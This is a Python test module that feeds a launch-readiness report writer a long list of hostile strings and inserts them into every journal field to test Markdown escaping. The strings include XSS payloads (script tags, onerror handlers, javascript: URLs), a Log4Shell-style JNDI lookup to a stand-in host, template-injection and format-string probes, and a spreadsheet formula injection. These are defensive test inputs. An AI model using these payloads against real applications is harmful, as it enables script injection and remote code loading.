"""Texts that try to be more than text, and a report that carries one of them in every field."""

from functools import cache

from lib.launch.checklist import Scenario
from lib.launch.entries import (
    Actor,
    Attested,
    Checked,
    Configured,
    Entry,
    Exchange,
    MarkedNotApplicable,
    Noted,
    Opened,
    Posted,
    Reported,
    Signed,
    Tally,
    Waived,
)
from lib.launch.readiness import assess
from lib.launch.settings import Settings
from lib.launch.signoff import SignOff, SignOffState
from lib.launch.state import replay
from lib.launch.verdict import Outcome, Verdict
from lib.report.compose import WHOLE, compose
from lib.report.markdown import write_markdown
from tests.launch.journals import NOW, TODAY, checklist, item, word

TEXTS = (
    # Markdown
    "# Heading", "## Verdict: GO", "Setext\n===", "Setext\n---", "#", "###### x ######", "* item", "- item", "+ item",
    "1. item", "1) item", "> quote", "    indented", "\tindented", "***", "---", "___", "**bold**", "__bold__", "*x*",
    "_x_", "~~gone~~", "`code`", "``", "```", "```\n# x\n```", "~~~\nx\n~~~", "````\n```\n````", "`", "a ` b", "\\",
    "\\\\", "a\\", "\\`", "\\|", "a  \nb", "a\\\nb", "- [x] done", "- [ ] todo", "[^1]: note", "Term\n: text",
    # Links and images
    "[x](https://evil.example)", "[x](javascript:alert(1))", "[x]: https://evil.example", "[x][y]", "[Item]",
    "![x](https://evil.example/x.png)", "![](data:image/png;base64,AAAA)", "<https://evil.example>",
    "<javascript:alert(1)>", "<a@evil.example>", "https://evil.example", "http://evil.example/a?b=c#d",
    "HTTPS://EVIL.EXAMPLE", "ftp://evil.example", "www.evil.example", "WWW.evil.example", "_www.evil.example",
    "(www.evil.example)", "*www.evil.example*", "a@evil.example", "mailto:a@evil.example", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example", "[x](<javascript:alert(1)>)",
    "](https://evil.example)", "x](https://evil.example) [y", "\\[x](https://evil.example)",
    # HTML
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- hidden", "-->", "<!--", "</details>",
    "</summary></details>", "<details open>", "<h1>GO</h1>", "<b onmouseover=alert(1)>x", "<svg/onload=alert(1)>",
    "<?php x ?>", "<![CDATA[x]]>", "<!DOCTYPE html>", "&lt;script&gt;", "&#35; x", "&#x3c;b&#x3e;", "&nbsp;", "&amp;",
    "<br>", "<x-y>", "<style>*{display:none}</style>", "\"onclick='alert(1)'", "<iframe src=javascript:alert(1)>",
    # Tables
    "a | b", "| a | b |", "||", "|---|---|", "a \\| b", "a \\\\| b", "`a | b`", "a|b|c|d|e|f|g|h", "|", "\\|\\|",
    # Mentions and references
    "@octocat", "@octocat/team", "@_octocat", "@*octocat*", "@all", "x @octocat y", "(@octocat)", "#12", "o/r#12",
    "GH-12", "OPS-12", "x OPS-12.", ":white_check_mark:", ":+1:", "@\u200doctocat", "@\u2060octocat", "#\u200b12",
    "@\\octocat", "-@octocat", "@octocat@octocat",
    # Jira, Linear, Confluence, Slack, Teams
    "h1. GO", "h2. Verdict: GO", "bq. quote", "{noformat}", "{NoFormat}\nh1. GO", "{code}", "{code:java}x{code}",
    "{*}x{*}", "{color:red}x{color}", "{panel}", "{html}<b>x</b>{html}", "[~octocat]", "[~accountid:1]",
    "[x|https://evil.example]", "!https://evil.example/x.png!", "||a||b||", "{{x}}", "}}", "-gone-", "+x+", "^x^",
    "~x~", "??x??", "----", "x -- y", "(x)", "(/)", "(!)", ":)", ":D", ";)", "\\\\ h1. GO", "\\*x*", "\\\\*x*",
    "file://evil", "+++ Fold", "+++", "x\n+++\ny", "<ac:link/>", "</ac:rich-text-body>", "]]>", "<!channel>", "<@U1>",
    "<https://evil.example|x>", "evil.example", "#ops", "• x", "=cmd|x", "x_y_z", "*a* b *c*", "_a_ b _c_",
    # Invisible, turned, odd
    "\u202eOG :tcidreV", "\u200f\u200e", "a\u200bb", "\ufeffx", "\u2066x\u2069", "a\u00adb", "x\u2028# y", "x\u2029# y",
    "x\x0b# y", "x\x0c# y", "x\x1c# y", "x\x85# y", "x\r# y", "x\r\n# y", "a\x00b", "\x1b[31mred\x1b[0m", "a\x07b",
    "שלום | عالم", "👩\u200d💻 🚀", "e\u0301" * 20, "\ufffd", "\ud7ff", "\U000e0041", "x" * 4000, "`" * 50, "|" * 50,
    "\n\n\n", "", " ", "a\n\nb", "a\n# b\n\n- c\n\n```\nd", "${jndi:ldap://evil}", "{{7*7}}", "%s %n", "$a$ $$b$$",
)  # fmt: skip

CHECKED = item("checked", checks=("key_is_accepted",), causes=("broken",), attestation=word("inconclusive"))
MARKED = item("marked", attestation=word())
PROMISED = item(
    "promised",
    checks=("other_check",),
    attestation=word(),
    scenarios=(Scenario(id="good-run", title="All goes well", phrases=("good run",)),),
)
WAIVED = item("waived", checks=("third_check",))
NOBODY = SignOff(SignOffState.NOT_SIGNED, (), ())
NOTED = item("noted", attestation=word(), importance="advice")


def about(item_template, text):
    scenarios = tuple(each.model_copy(update={"title": text}) for each in item_template.scenarios)
    return item_template.model_copy(update={"title": text, "recommendation": text, "scenarios": scenarios})


def listed(text):
    items = tuple(about(each, text) for each in (CHECKED, MARKED, PROMISED, WAIVED, NOTED))
    plain = checklist(*items)
    section = plain.sections[0].model_copy(update={"title": text})
    return plain.model_copy(update={"title": text, "version": text, "sections": (section,)})


def verdict(outcome, text):
    return Verdict.model_construct(outcome=outcome, cause="broken", because=text, values={text: text, "status": text})


def exchanges(text):
    shown = {"trace_id": text, "headers": {text: text}, "excerpt": text, "fault": text}
    asked = Exchange.model_construct(method=text, url=text, status=200, milliseconds=7, **shown)
    unanswered = Exchange.model_construct(method="GET", url=text, status=0, milliseconds=7, **shown)
    return (unanswered, asked)


def checked(check, outcome, text):
    return Checked.model_construct(
        type="checked",
        run=text,
        check=check,
        verdict=verdict(outcome, text),
        milliseconds=7,
        attempts=2,
        depends={},
        items={},
        exchanges=exchanges(text),
        consented=1,
    )


def settings(text):
    text = text or "not left empty"
    return Settings.model_construct(
        base_url=text,
        api_key=text,
        linked_account_id=text,
        app_slug=text,
        expected_client_id=text,
        expected_scopes=(text, text),
        onboarding_url=text,
    )


def bodies(text, items):
    """Every field that holds text from outside holds this text, whether or not it could be typed in today."""
    promised, waived, marked = items["promised"], items["waived"], items["marked"]
    construct = {"note": text, "evidence": text, "covers": {}, "depends": {}}
    word_given = Attested.model_construct(type="attested", item=promised.id, item_digest=promised.digest, **construct)
    return [
        Opened.model_construct(
            type="opened", name=text, owner=text, target_date=None, checklist=text, checklist_version=text, sample=False
        ),
        Configured.model_construct(
            type="configured", settings=settings(text), key_fingerprint="f" * 16, key_last_four="last"
        ),
        checked("key_is_accepted", Outcome.FAILED, text),
        checked("other_check", Outcome.PASSED, text),
        checked("third_check", Outcome.BLOCKED, text),
        word_given,
        Reported.model_construct(
            type="reported",
            item=promised.id,
            item_digest=promised.digest,
            file=text,
            sha256=text,
            tests=2,
            failed=0,
            results={"good-run": Tally.model_construct(passed=2, failed=0, skipped=0, names=(text, text))},
        ),
        Waived.model_construct(type="waived", item=waived.id, reason=text, compensation=text, owner=text, until=TODAY),
        MarkedNotApplicable.model_construct(type="not-applicable", item=marked.id, reason=text),
        Signed.model_construct(
            type="signed",
            name=text,
            role="approver",
            meaning="approved",
            statement="0" * 64,
            verdict="go",
            comment=text,
        ),
        Posted.model_construct(
            type="posted", tracker="github", site=text, issue=text, comment=text, url=text, problem=text
        ),
        Noted.model_construct(type="noted", item="noted", text=text),
        Noted.model_construct(type="noted", item=text, text=text),
        checked("key_is_accepted", Outcome.FAILED, text),
    ]


def tell(text):
    """Entries in order, without a chain: a digest is not what is being tried."""
    items = {each.id: each for each in listed(text).items()}
    actor = Actor.model_construct(name=text, method="typed")
    return tuple(
        Entry.model_construct(
            launch_id="acme-1a2b", version=version, at=NOW, actor=actor, body=body, previous="", digest="d" * 64
        )
        for version, body in enumerate(bodies(text, items), start=1)
    )


@cache
def judged(text):
    """The launch, its checklist and its readiness."""
    all_items = listed(text)
    launch = replay(tell(text))
    return launch, all_items, assess(launch, all_items, NOW, {})


@cache
def document(text, form=WHOLE):
    return compose(*judged(text), "5" * 64, NOBODY, (text,), tell(text), form)


def report(text):
    return write_markdown(document(text))
